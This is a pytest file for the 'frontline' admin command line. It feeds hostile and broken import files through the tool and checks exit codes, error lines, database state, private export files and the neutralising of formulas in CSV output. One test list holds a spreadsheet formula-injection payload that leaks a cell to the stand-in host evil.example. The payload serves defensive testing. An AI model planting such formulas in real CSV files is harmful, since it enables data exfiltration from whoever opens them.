"""Hostile and broken files, and careless admin commands, driven through the real `frontline` command
line on SQLite and PostgreSQL (issue 9, "Files and the command line"). Each test asserts what an admin
sees (one line naming the file, line and limit; an exit status) and what the database holds after
(as it was, or every written record linked: never records without a customer)."""
from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

import bot.commands.importing as importing_command
from bot.commands.output import spreadsheet_safe
from store.importing.readers import MAX_COLUMNS, MAX_FIELD_CHARS, MAX_LINE_CHARS
from store.models import AuditEvent, Customer, SourceRecord

HEADER = "source_id,first_name,last_name,email,note\n"


def person(i: int, note: str = "") -> str:
    return f"W{i},Ann{i},Lee{i},ann{i}@example.com,{note}\n"


def people_file(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def state(session_factory) -> dict[str, int]:
    """What an abort must leave alone or complete: records, records without a customer, customers, audit."""
    with session_factory() as session:
        return {
            "records": session.scalar(select(func.count()).select_from(SourceRecord)),
            "unlinked": session.scalar(select(func.count()).where(SourceRecord.customer_id.is_(None))),
            "customers": session.scalar(select(func.count()).select_from(Customer)),
            "audit": session.scalar(select(func.count()).select_from(AuditEvent)),
        }


# --- frontline import: values, lines and quotes over the limits -----------------------------------


def test_a_field_over_the_limit_is_one_line_and_the_rest_is_imported_and_linked(frontline, tmp_path,
                                                                                 session_factory):
    long_note = "x" * (MAX_FIELD_CHARS + 68_928)  # 200,000: over the csv module's own limit too
    path = people_file(tmp_path, "long.csv", HEADER + "".join(
        person(i, long_note if i == 3 else "ok") for i in range(6)))
    status, out, err = frontline("import", path, "--source", "web", "--batch-size", "2")
    assert status == 1
    assert err.splitlines() == [f"long.csv:5: field too long (200,000 characters, the limit is {MAX_FIELD_CHARS:,})"]
    assert "people: 6 rows read, 5 created, 0 updated, 0 unchanged, 1 rejected" in out
    assert state(session_factory)["records"] == 5 and state(session_factory)["unlinked"] == 0


def test_a_line_over_a_mebibyte_is_skipped_without_holding_it(frontline, tmp_path, session_factory):
    path = people_file(tmp_path, "huge.csv", HEADER + person(1) + "W2,A,B,c@example.com," + "y" * 3_000_000
                       + "\n" + person(3))
    status, out, err = frontline("import", path, "--source", "web")
    assert status == 1
    assert err.splitlines() == [f"huge.csv:3: line too long (3,000,021 characters, the limit is {MAX_LINE_CHARS:,})"]
    assert "2 created" in out and state(session_factory)["unlinked"] == 0


@pytest.mark.parametrize("rows_after", [40, 1_000, 3_000])
def test_an_unterminated_quote_names_its_line_and_the_other_rows_are_imported(frontline, tmp_path, rows_after,
                                                                              session_factory):
    # 40 rows: the quote runs to the end of the file; 3,000: past the 1,000-line bound of a quoted value.
    path = people_file(tmp_path, "quote.csv", HEADER + 'W0,"Ann,Lee,ann@example.com,\n'
                       + "".join(person(i) for i in range(1, rows_after + 1)))
    status, out, err = frontline("import", path, "--source", "web", "--batch-size", "100")
    assert status == 1
    assert err.splitlines() == ['quote.csv:2: a quoted value opened on line 2 is not closed before the end of the '
                                'file or within 1,000 lines (a stray " ?); reading goes on from the next line']
    assert f"{rows_after} created" in out and "1 rejected" in out
    assert state(session_factory) | {"customers": 0, "audit": 0} == {
        "records": rows_after, "unlinked": 0, "customers": 0, "audit": 0}


def test_json_nested_five_thousand_deep_is_a_bad_line(frontline, tmp_path, session_factory):
    path = people_file(tmp_path, "deep.jsonl", '{"source_id": "J1", "email": "a@example.com"}\n'
                       '{"source_id": "J2", "extra": ' + "[" * 5_000 + "]" * 5_000 + "}\n"
                       '{"source_id": "J3", "extra": ' + "[" * 5_000 + "\n"
                       '{"source_id": "J4", "extra": {"a": {"b": [1, 2]}}}\n')
    status, out, err = frontline("import", path, "--source", "app")
    assert status == 1
    assert err.splitlines() == ["deep.jsonl:2: JSON nested too deeply (the limit is 32 levels)",
                                "deep.jsonl:3: JSON nested too deeply (the limit is 32 levels)"]
    assert "2 created" in out and state(session_factory)["unlinked"] == 0


def test_json_escapes_the_database_cannot_store_are_bad_lines_not_a_failed_batch(frontline, tmp_path,
                                                                                  session_factory):
    path = people_file(tmp_path, "esc.jsonl", '{"source_id": "J1", "first_name": "L\\u00e9a"}\n'
                       '{"source_id": "J2", "first_name": "A\\u0000B"}\n'
                       '{"source_id": "J3", "first_name": "\\ud800"}\n')
    status, out, err = frontline("import", path, "--source", "app")
    assert status == 1
    assert [line.split(": ", 1)[0] for line in err.splitlines()] == ["esc.jsonl:2", "esc.jsonl:3"]
    assert "1 created" in out and state(session_factory)["records"] == 1


@pytest.mark.parametrize(("columns", "message"), [
    (40_000, f"the header has 40,000 columns, the limit is {MAX_COLUMNS:,}"),
    (1_000_000, f"the header (line 1) is 7,888,889 characters long, the limit is {MAX_LINE_CHARS:,}: "
                "is this a CSV file?"),
])
def test_a_header_of_a_million_columns_is_refused_at_once(frontline, tmp_path, columns, message, session_factory):
    path = people_file(tmp_path, "wide.csv", ",".join(f"c{i}" for i in range(columns)) + "\n" + "1\n")
    status, _, err = frontline("import", path, "--source", "web")
    assert (status, err) == (1, f"frontline: {message}; nothing was written\n")
    assert state(session_factory)["records"] == 0


def test_repeated_header_names_are_all_named(frontline, tmp_path):
    path = people_file(tmp_path, "dup.csv", ",".join(["source_id", *(["email", "phone"] * 200)]) + "\nW1\n")
    status, _, err = frontline("import", path, "--source", "web")
    assert (status, err) == (1, "frontline: the header repeats column(s) email, phone; nothing was written\n")


GOOD = (HEADER + "".join(person(i) for i in range(300))).encode()


@pytest.mark.parametrize(("content", "message"), [
    (GOOD + "W300,Hélène,Roux,h@example.com,\n".encode("latin-1"), "bad.csv is not UTF-8 text (line 302)"),
    ("\ufeff".encode("utf-16-le") + (HEADER + person(1)).encode("utf-16-le"), "bad.csv is UTF-16 text, not UTF-8"),
    (GOOD + b"W300,A\x00B,C,d@example.com,\n", "bad.csv is not a text file (a NUL byte on line 302)"),
    (b"\x1f\x8b\x08\x00" + bytes(range(256)) * 40, "bad.csv is not a text file (a NUL byte on line 1)"),
    (GOOD + b"\xff\xfe\xfa", "bad.csv is not UTF-8 text (line 302)"),
])
def test_a_badly_encoded_file_is_one_error_and_nothing_is_written(frontline, tmp_path, content, message,
                                                                  session_factory):
    (tmp_path / "bad.csv").write_bytes(content)
    status, out, err = frontline("import", tmp_path / "bad.csv", "--source", "web", "--batch-size", "100")
    assert status == 1 and out == ""
    assert err.startswith(f"frontline: {message}") and err.endswith("; nothing was written\n")
    assert len(err.splitlines()) == 1
    assert state(session_factory)["records"] == 0


# --- frontline import: every abort leaves the database as it was or fully linked --------------------


REAL_IMPORT_PEOPLE, REAL_RELINK = importing_command.import_people, importing_command.relink


def repaired(monkeypatch) -> None:
    """Undo the injected failures (not monkeypatch.undo(): the frontline fixture's settings stay)."""
    monkeypatch.setattr(importing_command, "import_people", REAL_IMPORT_PEOPLE)
    monkeypatch.setattr(importing_command, "relink", REAL_RELINK)


def failing_on_batch(monkeypatch, number: int, error: BaseException) -> None:
    real = REAL_IMPORT_PEOPLE
    calls = []

    def import_people(session, **kwargs):
        calls.append(1)
        if len(calls) == number:
            raise error
        return real(session, **kwargs)
    monkeypatch.setattr(importing_command, "import_people", import_people)


@pytest.mark.parametrize(("error", "status", "said"), [
    (OperationalError("INSERT", {}, Exception("disk I/O error")), 1, "lines 202-301 could not be written (OperationalError)"),
    (KeyboardInterrupt(), 130, "interrupted"),
    (RuntimeError("bug"), 1, "stopped by an unexpected RuntimeError"),
])
def test_an_abort_mid_file_links_the_batches_already_written(frontline, tmp_path, monkeypatch, session_factory,
                                                             error, status, said):
    path = people_file(tmp_path, "p.csv", HEADER + "".join(person(i) for i in range(500)))
    failing_on_batch(monkeypatch, 3, error)
    code, out, err = frontline("import", path, "--source", "web", "--batch-size", "100")
    assert code == status
    lines = err.splitlines()
    assert lines[0] == (f"frontline: {said}; the 200 rows of the batches before that point were written, the rest "
                        "were not (importing the file again is safe)")
    assert lines[-1] == "frontline: the 200 records written before the stop are linked to customers"
    assert "identity resolution" in out
    assert state(session_factory) | {"audit": 0} == {"records": 200, "unlinked": 0, "customers": 200, "audit": 0}
    # Importing again completes the file.
    repaired(monkeypatch)
    code, out, _ = frontline("import", path, "--source", "web", "--batch-size", "100")
    assert code == 0 and "300 created, 0 updated, 200 unchanged" in out
    assert state(session_factory)["unlinked"] == 0


def test_an_abort_in_the_first_batch_leaves_the_database_as_it_was(frontline, tmp_path, monkeypatch,
                                                                   session_factory):
    before = state(session_factory)
    failing_on_batch(monkeypatch, 1, KeyboardInterrupt())
    path = people_file(tmp_path, "p.csv", HEADER + "".join(person(i) for i in range(50)))
    code, out, err = frontline("import", path, "--source", "web")
    assert (code, out, err) == (130, "", "frontline: interrupted; nothing was written\n")
    assert state(session_factory) == before


def test_when_linking_after_an_abort_fails_too_relink_links_the_records_later(frontline, tmp_path, monkeypatch,
                                                                              session_factory):
    path = people_file(tmp_path, "p.csv", HEADER + "".join(person(i) for i in range(300)))
    failing_on_batch(monkeypatch, 2, KeyboardInterrupt())

    def relink_interrupted(*args, **kwargs):
        raise KeyboardInterrupt
    monkeypatch.setattr(importing_command, "relink", relink_interrupted)
    code, _, err = frontline("import", path, "--source", "web", "--batch-size", "100")
    assert code == 1
    assert err.splitlines()[-1] == (
        "frontline: identity resolution interrupted: the 100 records written are not linked to customers yet; "
        "`frontline relink` (or importing a people file again) links them")
    assert state(session_factory)["unlinked"] == 100
    repaired(monkeypatch)
    code, _, _ = frontline("relink")
    assert code == 0
    assert state(session_factory) | {"audit": 0} == {"records": 100, "unlinked": 0, "customers": 100, "audit": 0}


def test_ctrl_c_during_the_final_identity_resolution_says_how_to_link(frontline, tmp_path, monkeypatch,
                                                                     session_factory):
    def relink_interrupted(*args, **kwargs):
        raise KeyboardInterrupt
    monkeypatch.setattr(importing_command, "relink", relink_interrupted)
    path = people_file(tmp_path, "p.csv", HEADER + "".join(person(i) for i in range(30)))
    code, out, err = frontline("import", path, "--source", "web")
    assert code == 1 and "30 created" in out
    assert err == ("frontline: identity resolution interrupted: the 30 records written are not linked to customers "
                   "yet; `frontline relink` (or importing a people file again) links them\n")
    repaired(monkeypatch)
    code, out, _ = frontline("import", path, "--source", "web")
    assert code == 0 and "30 unchanged" in out
    assert state(session_factory)["unlinked"] == 0


# --- admin commands: ids the database cannot hold, output files --------------------------------------


HUGE = "100000000000000000000"  # 10^20


@pytest.mark.parametrize("command", [
    ["customers", "show", HUGE], ["audit", "--customer", HUGE], ["gdpr", "export", HUGE],
    ["gdpr", "erase", HUGE, "--yes"], ["merge", HUGE, "1"], ["merge", "1", HUGE], ["unmerge", HUGE],
    ["review", "accept", HUGE], ["review", "reject", HUGE], ["customers", "show", "0"], ["merge", "-3", "1"],
    ["gdpr", "export", "1" * 5_000], ["customers", "show", "12abc"],
    ["audit", "--limit", HUGE], ["review", "list", "--limit", HUGE], ["import", "x.csv", "--batch-size", HUGE],
])
def test_an_id_out_of_range_is_a_usage_error_and_changes_nothing(frontline, command, session_factory, capsys):
    before = state(session_factory)
    with pytest.raises(SystemExit) as stop:
        frontline(*command)
    err = capsys.readouterr().err
    assert stop.value.code == 2
    assert err.splitlines()[-1].startswith(f"frontline {command[0]}") and "is not a valid" in err
    assert "a whole number from 1 to" in err and "Traceback" not in err
    assert state(session_factory) == before


def test_the_largest_id_the_database_holds_is_an_ordinary_not_found(frontline):
    assert frontline("customers", "show", "2147483647") == (1, "", "frontline: customer 2147483647 does not exist\n")


@pytest.mark.parametrize("command", [["gdpr", "export", "1"], ["links"]])
def test_an_output_in_a_missing_folder_is_one_line(frontline, tmp_path, command, session_factory):
    before = state(session_factory)
    target = tmp_path / "no" / "such" / "out.txt"
    status, out, err = frontline(*command, "--output", target)
    assert (status, out) == (1, "")
    assert err == f"frontline: cannot write {target}: the folder {target.parent} does not exist\n"
    assert state(session_factory) == before


@pytest.fixture
def customer(frontline, tmp_path, session_factory) -> int:
    frontline("import", people_file(tmp_path, "one.csv", HEADER + person(1)), "--source", "web")
    with session_factory() as session:
        return session.scalar(select(Customer.id))


@pytest.fixture
def permissive_umask():
    previous = os.umask(0o022)  # the usual default: without care a new file would be 0644
    yield
    os.umask(previous)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_gdpr_export_creates_a_private_file_and_never_overwrites_without_force(frontline, tmp_path, customer,
                                                                                session_factory, permissive_umask):
    target = tmp_path / "export.json"
    status, _, err = frontline("gdpr", "export", customer, "-o", target)
    assert status == 0 and err == f"Exported customer {customer} to {target}.\n"
    assert mode(target) == 0o600 and '"customer_id"' in target.read_text()
    audited = state(session_factory)["audit"]

    target.write_text("last week's export\n")
    status, _, err = frontline("gdpr", "export", customer, "-o", target)
    assert (status, err) == (1, f"frontline: {target} already exists: add --force to replace it\n")
    assert target.read_text() == "last week's export\n"
    assert state(session_factory)["audit"] == audited  # an export not delivered is not recorded as made

    os.chmod(target, 0o644)
    status, _, _ = frontline("gdpr", "export", customer, "-o", target, "--force")
    assert status == 0 and '"customer_id"' in target.read_text() and mode(target) == 0o600
    assert state(session_factory)["audit"] == audited + 1
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary file left


def test_a_failed_export_leaves_no_file_and_keeps_the_old_one_with_force(frontline, tmp_path, customer):
    target = tmp_path / "export.json"
    status, _, err = frontline("gdpr", "export", "2147483647", "-o", target)
    assert (status, err) == (1, "frontline: no customer with id 2147483647\n") and not target.exists()
    target.write_text("kept\n")
    status, _, _ = frontline("gdpr", "export", "2147483647", "-o", target, "--force")
    assert status == 1 and target.read_text() == "kept\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_an_existing_symlink_is_not_followed(frontline, tmp_path, customer):
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    (tmp_path / "export.json").symlink_to(victim)
    status, _, err = frontline("gdpr", "export", customer, "-o", tmp_path / "export.json")
    assert status == 1 and "already exists" in err and victim.read_text() == "do not touch\n"


# --- CSV the product writes: no spreadsheet formulas -------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+33 1 23", "-2+3", "@SUM(A1:A9)"]


def test_links_neutralises_formulas_and_writes_a_private_file(frontline, tmp_path, permissive_umask):
    rows = "source_id,first_name\n" + "".join(f'"{value.replace(chr(34), chr(34) * 2)}",Ann\n' for value in FORMULAS)
    frontline("import", people_file(tmp_path, "f.csv", rows + "W-1,Bob\n"), "--source", "web")
    target = tmp_path / "links.csv"
    status, _, _ = frontline("links", "-o", target)
    assert status == 0 and mode(target) == 0o600
    written = {row["source_id"] for row in csv.DictReader(io.StringIO(target.read_text()))}
    assert written == {"'" + value for value in FORMULAS} | {"W-1"}
    # stdout gets the same cells; the file is not overwritten without --force.
    _, out, _ = frontline("links")
    assert {row["source_id"] for row in csv.DictReader(io.StringIO(out))} == written
    status, _, err = frontline("links", "-o", target)
    assert (status, err) == (1, f"frontline: {target} already exists: add --force to replace it\n")
    assert frontline("links", "-o", target, "--force")[0] == 0


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tX", "'\tX"), ("\rX", "'\rX"),
    ("W-1", "W-1"), ("", ""), (42, 42), (None, None), ("'=x", "'=x"),
])
def test_spreadsheet_safe_prefixes_exactly_the_formula_starts(value, safe):
    assert spreadsheet_safe(value) == safe


# --- the installed command, as an admin runs it ---------------------------------------------------------


def test_the_real_frontline_command_prints_no_traceback(db_url, tmp_path):
    frontline_bin = Path(sys.executable).parent / "frontline"
    env = {**os.environ, "DATABASE_URL": db_url}
    path = people_file(tmp_path, "p.csv", HEADER + person(1) + person(2, "z" * 150_000) + 'W3,"open\n' + person(4))

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([str(frontline_bin), *args], env=env, cwd=tmp_path, capture_output=True, text=True,
                              timeout=120)
    done = run("import", str(path), "--source", "web")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert [line.split(": ")[0] for line in done.stderr.splitlines()] == ["p.csv:3", "p.csv:4"]
    done = run("customers", "show", HUGE)
    assert done.returncode == 2 and "Traceback" not in done.stderr and "is not a valid customer id" in done.stderr


def test_a_reader_that_goes_away_ends_the_command_quietly(db_url, tmp_path):
    """`frontline review list | head -1`: head exits after one line; frontline stops without a traceback."""
    frontline_bin = Path(sys.executable).parent / "frontline"
    env = {**os.environ, "DATABASE_URL": db_url}
    read_end, write_end = os.pipe()
    os.close(read_end)  # the reader is gone before the first line is written: every write fails
    try:
        done = subprocess.run([str(frontline_bin), "review", "list"], env=env, cwd=tmp_path, stdout=write_end,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    finally:
        os.close(write_end)
    assert done.stderr == ""
    assert done.returncode == 141  # what a shell reports for a command stopped by a closed pipe
